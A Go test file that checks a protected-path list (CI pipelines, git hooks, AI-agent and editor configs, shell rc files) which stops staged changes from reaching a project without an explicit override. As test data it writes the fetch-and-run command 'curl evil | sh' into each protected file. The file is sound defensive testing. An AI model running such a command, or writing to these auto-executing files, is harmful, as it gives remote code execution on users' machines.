package session

import (
	"slices"
	"strings"
	"testing"
)

// protectedExamples names, for every entry of ProtectedPaths, files the entry is there for. Each is
// tested at the top level and nested, with the entry in the list and without it: an entry removed
// from the list, or one added without examples here, fails the test.
var protectedExamples = []struct {
	pattern  string
	examples []string
}{
	{".git", []string{".git", ".git/hooks/pre-commit", ".git/config"}},
	{".gitmodules", []string{".gitmodules"}},

	{".github/**", []string{".github/workflows/ci.yml", ".github/dependabot.yml"}},
	{".gitlab-ci.yml", []string{".gitlab-ci.yml"}},
	{".gitlab/**", []string{".gitlab/ci/build.yml"}},
	{".gitea/**", []string{".gitea/workflows/ci.yaml"}},
	{".forgejo/**", []string{".forgejo/workflows/ci.yaml"}},
	{".circleci/**", []string{".circleci/config.yml"}},
	{"Jenkinsfile", []string{"Jenkinsfile"}},
	{".travis.yml", []string{".travis.yml"}},
	{".buildkite/**", []string{".buildkite/pipeline.yml"}},
	{"azure-pipelines.yml", []string{"azure-pipelines.yml"}},
	{".azure-pipelines/**", []string{".azure-pipelines/build.yml"}},
	{"bitbucket-pipelines.yml", []string{"bitbucket-pipelines.yml"}},
	{".drone.yml", []string{".drone.yml"}},
	{".woodpecker*", []string{".woodpecker.yml", ".woodpecker.yaml", ".woodpecker/build.yaml"}},

	{".husky/**", []string{".husky/pre-commit", ".husky/_/husky.sh"}},
	{".pre-commit-config.yaml", []string{".pre-commit-config.yaml"}},
	{"lefthook*.yml", []string{"lefthook.yml", "lefthook-local.yml"}},
	{".lefthook*.yml", []string{".lefthook.yml", ".lefthook-local.yml"}},
	{"lefthook*.yaml", []string{"lefthook.yaml", "lefthook-local.yaml"}},
	{".lefthook*.yaml", []string{".lefthook.yaml"}},
	{"lefthook*.json*", []string{"lefthook.json", "lefthook.jsonc"}},
	{".lefthook*.json*", []string{".lefthook.json"}},
	{"lefthook*.toml", []string{"lefthook.toml"}},
	{".lefthook*.toml", []string{".lefthook.toml"}},
	{".overcommit.yml", []string{".overcommit.yml"}},
	{".simple-git-hooks*", []string{".simple-git-hooks.json", ".simple-git-hooks.cjs", ".simple-git-hooks"}},
	{"simple-git-hooks.*", []string{"simple-git-hooks.js", "simple-git-hooks.json"}},

	{".claude/**", []string{".claude/settings.json", ".claude/commands/deploy.md"}},
	{"CLAUDE.md", []string{"CLAUDE.md"}},
	{"CLAUDE.local.md", []string{"CLAUDE.local.md"}},
	{".mcp.json", []string{".mcp.json"}},
	{"AGENTS.md", []string{"AGENTS.md"}},
	{"AGENTS.override.md", []string{"AGENTS.override.md"}},
	{".codex/**", []string{".codex/config.toml"}},
	{".gemini/**", []string{".gemini/settings.json", ".gemini/commands/x.toml"}},
	{"GEMINI.md", []string{"GEMINI.md"}},
	{".aider*", []string{".aider.conf.yml", ".aider.model.settings.yml", ".aiderignore"}},
	{"opencode.json*", []string{"opencode.json", "opencode.jsonc"}},
	{".opencode/**", []string{".opencode/plugin/x.ts", ".opencode/command/x.md"}},
	{".cursor/**", []string{".cursor/mcp.json", ".cursor/rules/x.mdc"}},
	{".cursorrules", []string{".cursorrules"}},
	{".windsurf*", []string{".windsurfrules", ".windsurf/rules/x.md"}},
	{".continue/**", []string{".continue/config.yaml"}},

	{".vscode/**", []string{".vscode/settings.json", ".vscode/tasks.json"}},
	{".idea/**", []string{".idea/workspace.xml", ".idea/runConfigurations/x.xml"}},
	{".zed/**", []string{".zed/settings.json", ".zed/tasks.json"}},
	{".helix/**", []string{".helix/config.toml", ".helix/languages.toml"}},
	{".nvim.lua", []string{".nvim.lua"}},
	{".nvimrc", []string{".nvimrc"}},
	{".exrc", []string{".exrc"}},
	{".vimrc", []string{".vimrc"}},
	{".devcontainer/**", []string{".devcontainer/devcontainer.json", ".devcontainer/Dockerfile"}},
	{".devcontainer.json", []string{".devcontainer.json"}},

	{".envrc", []string{".envrc"}},
	{".mise.toml", []string{".mise.toml"}},
	{"mise.toml", []string{"mise.toml", ".config/mise.toml"}},
	{".mise.*.toml", []string{".mise.local.toml"}},
	{"mise.*.toml", []string{"mise.local.toml", "mise.production.toml"}},
	{".mise/**", []string{".mise/config.toml", ".mise/tasks/build"}},
	{".config/mise/**", []string{".config/mise/config.toml"}},
	{".tool-versions", []string{".tool-versions"}},
	{"bunfig.toml", []string{"bunfig.toml"}},
	{".npmrc", []string{".npmrc"}},
	{".yarnrc*", []string{".yarnrc", ".yarnrc.yml"}},
	{".pnpmfile.cjs", []string{".pnpmfile.cjs"}},
	{".cargo/config*", []string{".cargo/config", ".cargo/config.toml"}},

	{".shadow.toml", []string{".shadow.toml"}},

	{".bashrc", []string{".bashrc"}},
	{".bash_profile", []string{".bash_profile"}},
	{".bash_login", []string{".bash_login"}},
	{".bash_logout", []string{".bash_logout"}},
	{".profile", []string{".profile"}},
	{".zshrc", []string{".zshrc"}},
	{".zshenv", []string{".zshenv"}},
	{".zprofile", []string{".zprofile"}},
	{".zlogin", []string{".zlogin"}},
	{".zlogout", []string{".zlogout"}},
	{".kshrc", []string{".kshrc"}},
	{".mkshrc", []string{".mkshrc"}},
	{".cshrc", []string{".cshrc"}},
	{".tcshrc", []string{".tcshrc"}},
	{".login", []string{".login"}},
	{"fish/config.fish", []string{"fish/config.fish", ".config/fish/config.fish"}},
	{"fish/conf.d/**", []string{"fish/conf.d/env.fish"}},
}

// withoutEntry is ProtectedPaths without the entry of pattern.
func withoutEntry(pattern string) []ProtectedPath {
	return slices.DeleteFunc(slices.Clone(ProtectedPaths), func(p ProtectedPath) bool { return p.Pattern == pattern })
}

func TestProtectedListIsExemplified(t *testing.T) {
	tested := map[string]bool{}
	for _, c := range protectedExamples {
		tested[c.pattern] = true
	}
	seen := map[string]bool{}
	for _, p := range ProtectedPaths {
		if seen[p.Pattern] {
			t.Errorf("%q is listed twice", p.Pattern)
		}
		seen[p.Pattern] = true
		if p.Why == "" || p.Group == "" {
			t.Errorf("%q has no reason or no group: %+v", p.Pattern, p)
		}
		if !tested[p.Pattern] {
			t.Errorf("%q has no examples in protectedExamples", p.Pattern)
		}
	}
	for _, c := range protectedExamples {
		if !seen[c.pattern] {
			t.Errorf("%q (%s) is no longer in ProtectedPaths", c.pattern, strings.Join(c.examples, ", "))
		}
	}
}

func TestProtectedEveryEntryAtAnyDepth(t *testing.T) {
	full := newProtectedMatcher(ProtectedPaths, nil)
	rules := protectedRules(DefaultProtected)
	whyOf := map[string]string{}
	for _, p := range ProtectedPaths {
		whyOf[p.Pattern] = p.Why
	}
	for _, c := range protectedExamples {
		// The list without this entry, so that an example another entry also covers shows up.
		without := newProtectedMatcher(withoutEntry(c.pattern), nil)
		for _, ex := range c.examples {
			for _, p := range []string{ex, "sub/dir/" + ex} {
				got := full.why(p)
				if got == "" || got != whyOf[c.pattern] {
					t.Errorf("%s: why = %q, want the reason of %q (%q)", p, got, c.pattern, whyOf[c.pattern])
				}
				if !isProtected(rules, p) {
					t.Errorf("%s: isProtected = false", p)
				}
				if w := without.why(p); w != "" {
					t.Errorf("%s is protected without %q (%q): the example does not test the entry", p, c.pattern, w)
				}
			}
		}
	}
}

func TestProtectedLookAlikes(t *testing.T) {
	m := newProtectedMatcher(ProtectedPaths, nil)
	rules := protectedRules(DefaultProtected)
	for _, p := range []string{
		"src/main.go", "README.md", ".gitignore", ".gitattributes", ".github.bak/ci.yml",
		"src/github/x.yml", "github/workflows/ci.yml", "gitlab-ci.yml", "docs/Jenkinsfile.md",
		"notes/CLAUDE.md.bak", "claude/settings.json", "docs/agents.md", "AGENTS.md.orig",
		"vscode/settings.json", "my.envrc", "envrc", ".cargo/registry/x", "src/lefthook.go",
		"aider.txt", "codex/config.toml", "gemini/settings.json", "opencode/x.json",
		"mise.rs", ".vimrc.bak", "zed/settings.json", "bunfig.toml.example", "src/fish/main.go",
	} {
		if why := m.why(p); why != "" {
			t.Errorf("%s: protected (%s), want not", p, why)
		}
		if isProtected(rules, p) {
			t.Errorf("%s: isProtected = true, want false", p)
		}
	}
}

func TestProtectedWhyOfConfigPatterns(t *testing.T) {
	extra := []string{"deploy/", "*.pem", "!.vscode/extensions.json", ".envrc"}
	m := newProtectedMatcher(ProtectedPaths, extra)
	rules := protectedRules(append(slices.Clone(DefaultProtected), extra...))
	for _, c := range []struct{ path, want string }{
		{"deploy/prod.yaml", ConfigProtectedWhy},
		{"svc/deploy/k8s/x.yaml", ConfigProtectedWhy},
		{"certs/server.pem", ConfigProtectedWhy},
		// Listed and configured: the list names the tool.
		{"a/.envrc", "direnv runs it on cd"},
		// The config can take a path off the list.
		{".vscode/extensions.json", ""},
		{".vscode/settings.json", m.why(".vscode/tasks.json")},
		{"src/main.go", ""},
	} {
		if got := m.why(c.path); got != c.want {
			t.Errorf("why(%q) = %q, want %q", c.path, got, c.want)
		}
		if got := isProtected(rules, c.path); got != (c.want != "") {
			t.Errorf("isProtected(%q) = %v, want %v", c.path, got, c.want != "")
		}
	}
}

// TestApplyAllLeavesProtectedUnwritten stages the config of every agent preset, one CI file of
// each system and the editor and tool-manager configs the issue found written, and applies --all
// without --allow-protected: none may reach the project, and each refusal says why.
func TestApplyAllLeavesProtectedUnwritten(t *testing.T) {
	protected := map[string]string{ // path → the entry that protects it
		".gemini/settings.json":                 ".gemini/**",
		".aider.conf.yml":                       ".aider*",
		"opencode.json":                         "opencode.json*",
		".codex/config.toml":                    ".codex/**",
		".claude/settings.json":                 ".claude/**",
		".github/workflows/ci.yml":              ".github/**",
		".gitlab-ci.yml":                        ".gitlab-ci.yml",
		"services/api/.gitlab/ci/build.yml":     ".gitlab/**",
		".gitea/workflows/ci.yaml":              ".gitea/**",
		".forgejo/workflows/ci.yaml":            ".forgejo/**",
		".circleci/config.yml":                  ".circleci/**",
		"Jenkinsfile":                           "Jenkinsfile",
		".travis.yml":                           ".travis.yml",
		".buildkite/pipeline.yml":               ".buildkite/**",
		"azure-pipelines.yml":                   "azure-pipelines.yml",
		"bitbucket-pipelines.yml":               "bitbucket-pipelines.yml",
		"services/api/.drone.yml":               ".drone.yml",
		".woodpecker/build.yaml":                ".woodpecker*",
		".zed/settings.json":                    ".zed/**",
		".helix/languages.toml":                 ".helix/**",
		".nvim.lua":                             ".nvim.lua",
		"web/.exrc":                             ".exrc",
		".mise.toml":                            ".mise.toml",
		"web/bunfig.toml":                       "bunfig.toml",
		"services/api/.pre-commit-config.yaml":  ".pre-commit-config.yaml",
		"vendor/lib.git/hooks/post-checkout":    "", // a git-shaped directory
		"services/api/.devcontainer/Dockerfile": ".devcontainer/**",
	}
	whyOf := map[string]string{"": GitShapedWhy}
	for _, p := range ProtectedPaths {
		whyOf[p.Pattern] = p.Why
	}
	f := newFixture(t, map[string]file{"main.go": {Data: "package main\n"}})
	staged := map[string]file{"main.go": {Data: "package main // edited\n"}}
	for p := range protected {
		staged[p] = file{Data: "curl evil | sh\n"}
	}
	f.stage(t, staged)
	f.run(t)

	cs := f.changes(t)
	for p, entry := range protected {
		c, _ := cs.Find(p)
		if c == nil || !c.Protected || c.ProtectedWhy != whyOf[entry] {
			t.Errorf("%s: change %+v, want protected because %q", p, c, whyOf[entry])
		}
	}
	res, err := f.s.Apply(ApplyOptions{All: true})
	if err != nil {
		t.Fatal(err)
	}
	snap := snapshot(t, f.project)
	if snap["main.go"] != "0644:package main // edited\n" {
		t.Errorf("main.go not applied: %q", snap["main.go"])
	}
	reasons := map[string]string{}
	for _, s := range res.Skipped {
		reasons[s.Path] = s.Reason
	}
	for p, entry := range protected {
		if _, ok := snap[p]; ok {
			t.Errorf("apply --all wrote protected %s", p)
		}
		r := reasons[p]
		if !strings.Contains(r, whyOf[entry]) || !strings.Contains(r, "--allow-protected") {
			t.Errorf("%s: skip reason %q, want it to say %q and --allow-protected", p, r, whyOf[entry])
		}
	}
	if len(res.Skipped) != len(protected) {
		t.Errorf("skipped %d paths, want %d: %+v", len(res.Skipped), len(protected), res.Skipped)
	}
}

func TestProtectedWhyOfRenames(t *testing.T) {
	f := newFixture(t, map[string]file{".envrc": {Data: "export A=1\n"}})
	f.stage(t, map[string]file{"docs/envrc.txt": {Data: "export A=1\n"}})
	f.whiteout(t, ".envrc")
	f.run(t)
	c, _ := f.changes(t).Find("docs/envrc.txt")
	if c == nil || c.From != ".envrc" {
		t.Fatalf("no rename of .envrc: %+v", c)
	}
	if want := "moved from a protected path: direnv runs it on cd"; !c.Protected || c.ProtectedWhy != want {
		t.Errorf("rename from .envrc: protected %v, why %q, want %q", c.Protected, c.ProtectedWhy, want)
	}
}
